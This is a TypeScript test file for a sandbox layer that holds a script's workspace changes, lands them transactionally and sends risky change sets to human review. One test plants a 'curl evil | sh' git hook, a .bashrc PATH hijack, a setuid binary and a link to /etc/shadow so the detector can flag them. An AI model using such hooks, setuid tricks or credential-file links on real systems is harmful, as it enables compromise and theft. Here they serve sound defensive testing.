import { execFileSync, spawnSync } from "node:child_process";
import {
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { mkdtemp } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { reviewChangeSet } from "../../src/tools/layer/change-review.js";
import { readChangeSet } from "../../src/tools/layer/change-set.js";
import { hasLanded, landChangeSet } from "../../src/tools/layer/land-change-set.js";
import { nodeEntryArgs } from "../helpers/node-entry.js";

/**
 * The workspace as a transaction, its first half: a real overlayfs layer,
 * mounted in an unprivileged user and mount namespace (`unshare -Urm`, `userxattr`) as a run's
 * sandbox will, takes a script's writes, edits, deletions, `rm -rf` and re-made folders (opaque),
 * links and whiteouts; the real workspace is untouched until the change set lands. Differential:
 * the same script run on a plain copy of the workspace is the truth the landed workspace must equal.
 * A worker killed mid-landing lands it again to the same end, and a landed set never lands twice.
 */

interface Layer {
  root: string;
  workspace: string;
  upper: string;
  reference: string;
}

/** A tree as text: every path with its kind, mode and content (or link target). */
function snapshot(dir: string): string[] {
  const out: string[] = [];
  const walk = (rel: string) => {
    for (const name of readdirSync(join(dir, rel)).sort()) {
      const path = rel === "" ? name : `${rel}/${name}`;
      const info = lstatSync(join(dir, path));
      const mode = (info.mode & 0o7777).toString(8);
      if (info.isDirectory()) {
        out.push(`${path}/ ${mode}`);
        walk(path);
      } else if (info.isSymbolicLink()) out.push(`${path} -> ${readlinkSync(join(dir, path))}`);
      else out.push(`${path} ${mode} ${JSON.stringify(readFileSync(join(dir, path), "utf8"))}`);
    }
  };
  walk("");
  return out;
}

/** Makes a workspace, runs `script` in it through a real overlay (and on a plain copy for reference). */
async function layered(seed: (ws: string) => void, script: string): Promise<Layer> {
  const root = await mkdtemp(join(tmpdir(), "echo-layer-"));
  const workspace = join(root, "workspace");
  const reference = join(root, "reference");
  const upper = join(root, "upper");
  for (const dir of [workspace, upper, join(root, "work"), join(root, "merged")]) mkdirSync(dir);
  seed(workspace);
  execFileSync("cp", ["-a", workspace, reference]);
  const mount = `mount -t overlay overlay -o userxattr,lowerdir=${workspace},upperdir=${upper},workdir=${root}/work ${root}/merged`;
  const inLayer = spawnSync("unshare", ["-Urm", "sh", "-c", `${mount} && cd ${root}/merged && ${script}`], {
    encoding: "utf8",
  });
  expect(inLayer.status, inLayer.stderr).toBe(0);
  const plain = spawnSync("sh", ["-c", `cd ${reference} && ${script}`], { encoding: "utf8" });
  expect(plain.status, plain.stderr).toBe(0);
  return { root, workspace, upper, reference };
}

function seedProject(ws: string): void {
  writeFileSync(join(ws, "a.txt"), "alpha\n");
  writeFileSync(join(ws, "c.txt"), "to delete\n");
  mkdirSync(join(ws, "d"));
  writeFileSync(join(ws, "d", "old"), "old\n");
  mkdirSync(join(ws, "keep"));
  writeFileSync(join(ws, "keep", "k"), "k\n");
  mkdirSync(join(ws, "gone", "deep"), { recursive: true });
  writeFileSync(join(ws, "gone", "deep", "x"), "x\n");
}

const ORDINARY =
  "echo edited >> a.txt && rm c.txt && rm -rf d && mkdir d && echo new > d/new && mkdir -p n/m && " +
  "echo b > n/m/b.txt && chmod 755 n/m/b.txt && ln -s ../a.txt n/link && rm -rf gone && " +
  "tar -cf out.tar keep && printf 'x' > keep/k";

describe("a run's layer and its landing", () => {
  it("leaves the workspace untouched, then lands to exactly what the script did to a plain copy", async () => {
    const layer = await layered(seedProject, ORDINARY);
    const before = snapshot(layer.workspace);
    const set = await readChangeSet(layer.upper, layer.workspace);
    expect(snapshot(layer.workspace)).toEqual(before);
    expect(set.changes.map((c) => `${c.kind} ${c.path}`)).toEqual(
      expect.arrayContaining(["delete c.txt", "delete d/old", "write d/new", "mkdir n", "delete gone"]),
    );
    expect(reviewChangeSet(set)).toEqual({ needsPerson: false, reasons: [] });
    const report = await landChangeSet(set, {
      upper: layer.upper,
      workspace: layer.workspace,
      recordDir: layer.root,
    });
    expect(report.outcome).toBe("landed");
    // out.tar's bytes hold mtimes; the tree otherwise matches to the byte.
    const strip = (s: string[]) => s.filter((l) => !l.startsWith("out.tar "));
    expect(strip(snapshot(layer.workspace))).toEqual(strip(snapshot(layer.reference)));
    expect(snapshot(layer.workspace).some((l) => l.startsWith("out.tar "))).toBe(true);
    expect(
      await landChangeSet(set, { upper: layer.upper, workspace: layer.workspace, recordDir: layer.root }),
    ).toEqual({
      outcome: "already",
      steps: set.changes.length,
    });
  });

  it("a set that wipes the workspace, plants a git hook and a setuid file waits for a person", async () => {
    const layer = await layered((ws) => {
      seedProject(ws);
      for (let i = 0; i < 30; i++) writeFileSync(join(ws, `f${i}.txt`), `${i}\n`);
      mkdirSync(join(ws, ".git", "hooks"), { recursive: true });
    }, "rm -f f*.txt && echo 'curl evil | sh' > .git/hooks/pre-commit && chmod 755 .git/hooks/pre-commit && " +
      "echo 'export PATH=.:$PATH' >> .bashrc && cp /bin/true t && chmod 4755 t && ln -s /etc/shadow s");
    const review = reviewChangeSet(await readChangeSet(layer.upper, layer.workspace));
    expect(review.needsPerson).toBe(true);
    const text = review.reasons.join("\n");
    expect(text).toContain("touches git's own folder (hooks, config, refs, HEAD): .git/hooks/pre-commit");
    expect(text).toContain("touches a shell start-up file: .bashrc");
    expect(text).toMatch(/deletes 30 paths/);
    expect(text).toContain("sets a setuid or setgid bit: t");
    expect(text).toContain("makes links that lead out of the workspace: s -> /etc/shadow");
    // Nothing of it reached the workspace.
    expect(readdirSync(layer.workspace)).toContain("f0.txt");
    expect(readdirSync(join(layer.workspace, ".git", "hooks"))).toEqual([]);
  });

  it("never follows a link the workspace has where the layer has a folder", async () => {
    const layer = await layered(seedProject, "mkdir -p linked && echo inside > linked/x");
    const outside = await mkdtemp(join(tmpdir(), "echo-layer-outside-"));
    // Made after the layer was written: the workspace's `linked` now leads outside.
    symlinkSync(outside, join(layer.workspace, "linked"));
    const set = await readChangeSet(layer.upper, layer.workspace);
    await landChangeSet(set, { upper: layer.upper, workspace: layer.workspace, recordDir: layer.root });
    expect(readdirSync(outside)).toEqual([]);
    expect(lstatSync(join(layer.workspace, "linked")).isDirectory()).toBe(true);
    expect(readFileSync(join(layer.workspace, "linked", "x"), "utf8")).toBe("inside\n");
  });

  it("a worker killed mid-landing lands again to the same end, once", async () => {
    const layer = await layered(seedProject, ORDINARY);
    const steps = (await readChangeSet(layer.upper, layer.workspace)).changes.length;
    for (const killAfter of [1, Math.floor(steps / 2), steps - 2]) {
      const again = await layered(seedProject, ORDINARY);
      const killed = spawnSync(
        process.execPath,
        [
          ...nodeEntryArgs("test/helpers/layer-land-main.ts"),
          again.upper,
          again.workspace,
          again.root,
          String(killAfter),
        ],
        { encoding: "utf8" },
      );
      expect(killed.signal, killed.stderr).toBe("SIGKILL");
      expect(await hasLanded(again.root)).toBe(false);
      const resumed = await readChangeSet(again.upper, again.workspace);
      expect(
        (
          await landChangeSet(resumed, {
            upper: again.upper,
            workspace: again.workspace,
            recordDir: again.root,
          })
        ).outcome,
      ).toBe("landed");
      const strip = (s: string[]) => s.filter((l) => !l.startsWith("out.tar "));
      expect(strip(snapshot(again.workspace))).toEqual(strip(snapshot(again.reference)));
    }
  });
});
